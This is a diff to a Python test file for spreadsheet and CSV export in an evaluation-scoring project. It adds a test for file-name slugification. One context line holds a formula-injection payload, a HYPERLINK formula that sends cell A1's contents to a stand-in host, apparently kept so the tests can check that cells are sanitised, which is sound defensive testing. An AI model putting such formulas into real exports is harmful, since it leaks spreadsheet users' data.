@@ -13,7 +13,14 @@ from helpers import BRICKS
 from tpt_model import Catalogue
 from tpt_model.evaluation.scoring import REFERENCE_EVALUATOR, evaluate
 from tpt_model.evaluation.sheets import ScoreSheet
-from tpt_model.export.tabular import aggregate_frame, evaluation_frame, safe_cell, to_csv_bytes, to_xlsx_bytes
+from tpt_model.export.tabular import (
+    aggregate_frame,
+    evaluation_file_name,
+    evaluation_frame,
+    safe_cell,
+    to_csv_bytes,
+    to_xlsx_bytes,
+)
 
 HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")'
 BOM = b"\xef\xbb\xbf"
@@ -179,3 +186,11 @@ def test_aggregate_frame(catalogue: Catalogue) -> None:
         3,
     )
     assert row["Désaccord"]
+
+
+@pytest.mark.parametrize(
+    ("name", "file_name"),
+    [("Parcours GT1 (été)", "evaluation-parcours-gt1-ete.xlsx"), ("***", "evaluation-scenario.xlsx")],
+)
+def test_evaluation_file_name(name: str, file_name: str) -> None:
+    assert evaluation_file_name(name, "xlsx") == file_name
